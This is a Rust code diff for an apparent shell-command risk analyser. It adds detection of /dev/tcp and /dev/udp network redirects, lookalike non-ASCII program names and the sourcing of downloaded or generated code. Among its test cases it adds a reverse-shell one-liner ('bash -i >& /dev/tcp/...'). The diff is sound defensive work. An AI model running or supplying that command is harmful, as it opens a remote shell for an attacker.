@@ -74,7 +74,9 @@ impl Analysis {
         if !writes || matches!(target, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty") {
             return;
         }
-        if path::is_device(target) {
+        if target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/") {
+            self.add("network-redirect", Risk::High, "connects to the network");
+        } else if path::is_device(target) {
             self.add("write-device", Risk::Critical, "writes over a disk");
         } else if path::is_system(target) || path::is_personal_setup(target) {
             let risk = if redirect.kind == RedirectKind::Truncate || as_root { Risk::High } else { Risk::Medium };
@@ -152,8 +154,16 @@ impl Analysis {
             let whole = call.operands.iter().any(|word| path::is_vital(&word.shape));
             self.add("find-delete", if whole { Risk::High } else { Risk::Medium }, "deletes what it finds");
         }
-        if matches!(call.name, "source" | ".") && around.nested_download {
-            self.add("remote-code", Risk::High, "runs what it downloads");
+        if !call.name.is_ascii() {
+            self.add("foreign-letters", Risk::Medium, "the program's name has letters that may look like others");
+        }
+        if matches!(call.name, "source" | ".") {
+            let fed = call.operands.is_empty() && !around.feeders.is_empty();
+            if around.nested_download || (fed && downloads(around.feeders)) {
+                self.add("remote-code", Risk::High, "runs what it downloads");
+            } else if fed || !around.command.nested.is_empty() {
+                self.add("generated-code", Risk::Medium, "runs the output of another program");
+            }
         }
         if !unwrap::is_interpreter(call.name) {
             return;
@@ -361,6 +371,7 @@ mod tests {
                 "/bin/rm -r x",
                 "echo x > ~/.bashrc",
                 "env -S 'rm -r x'",
+                "bash -i >& /dev/tcp/a/1 0>&1",
             ],
         );
     }
